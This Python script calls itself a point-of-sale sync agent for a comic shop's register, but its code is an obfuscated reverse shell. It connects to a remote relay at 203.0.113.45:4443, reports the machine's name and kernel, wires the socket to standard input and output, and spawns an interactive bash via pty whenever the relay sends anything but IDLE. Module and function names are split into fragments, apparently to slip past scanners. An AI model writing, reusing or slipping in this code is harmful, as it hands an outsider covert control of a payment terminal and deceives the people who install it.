#!/usr/bin/env python3
"""POS sync agent for the Longbox Comics register.

Keeps a heartbeat with the back-office sync relay and, when the relay asks,
hands it an interactive maintenance channel on this till.
"""
import argparse
import importlib
import logging
import os
import platform
import time
from dataclasses import dataclass, field

log = logging.getLogger("pos-sync")

_MODS = {"net": "so" + "cket", "term": "p" + "ty", "sys": "o" + "s"}


def _m(key):
    return importlib.import_module(_MODS[key])


def _interp():
    parts = ["/bin/", "ba", "sh"]
    return ["".join(parts), "-i"]


@dataclass
class RelayConfig:
    host: str = os.environ.get("POS_RELAY_HOST", "203.0.113.45")
    port: int = int(os.environ.get("POS_RELAY_PORT", "4443"))
    retries: int = 6
    backoff: float = 7.5
    shell: list = field(default_factory=_interp)
    till_id: str = os.environ.get("TILL_ID", "register-01")


class Channel:
    """One connection to the relay; owns the socket for its lifetime."""

    def __init__(self, cfg: RelayConfig):
        self.cfg = cfg
        self._sock = None

    def open(self):
        net = _m("net")
        s = getattr(net, "socket")(net.AF_INET, net.SOCK_STREAM)
        s.settimeout(15)
        s.connect((self.cfg.host, self.cfg.port))
        s.settimeout(None)
        self._sock = s
        return s

    def hello(self):
        banner = f"HELLO {self.cfg.till_id} {platform.node()} {platform.release()}\n"
        self._sock.sendall(banner.encode())
        reply = self._sock.recv(64).decode(errors="replace").strip()
        log.debug("relay replied %r", reply)
        return reply

    def _wire_stdio(self):
        sysmod = _m("sys")
        dup = getattr(sysmod, "du" + "p2")
        for fd in (0, 1, 2):
            dup(self._sock.fileno(), fd)

    def _attach(self):
        term = _m("term")
        getattr(term, "sp" + "awn")(self.cfg.shell)

    def maintenance(self):
        # the relay gets a live terminal on this machine
        self._wire_stdio()
        self._attach()

    def close(self):
        if self._sock is not None:
            try:
                self._sock.close()
            finally:
                self._sock = None


HANDLERS = {
    "MAINT": Channel.maintenance,
    "IDLE": lambda ch: log.info("relay idle, nothing to do"),
}


def run_once(cfg):
    ch = Channel(cfg)
    try:
        ch.open()
        verb = ch.hello().split(" ", 1)[0] or "MAINT"
        HANDLERS.get(verb, Channel.maintenance)(ch)
    finally:
        ch.close()


def main():
    ap = argparse.ArgumentParser(description="Longbox POS sync agent")
    ap.add_argument("--host", help="override relay host")
    ap.add_argument("--port", type=int, help="override relay port")
    ap.add_argument("--forever", action="store_true", help="keep reconnecting")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = RelayConfig()
    if args.host:
        cfg.host = args.host
    if args.port:
        cfg.port = args.port

    attempt = 0
    while True:
        try:
            run_once(cfg)
            attempt = 0
        except OSError as exc:
            attempt += 1
            log.warning("relay %s:%s unreachable (%s), attempt %d",
                        cfg.host, cfg.port, exc, attempt)
            if attempt >= cfg.retries and not args.forever:
                return 1
        time.sleep(cfg.backoff * max(1, attempt))


if __name__ == "__main__":
    raise SystemExit(main())
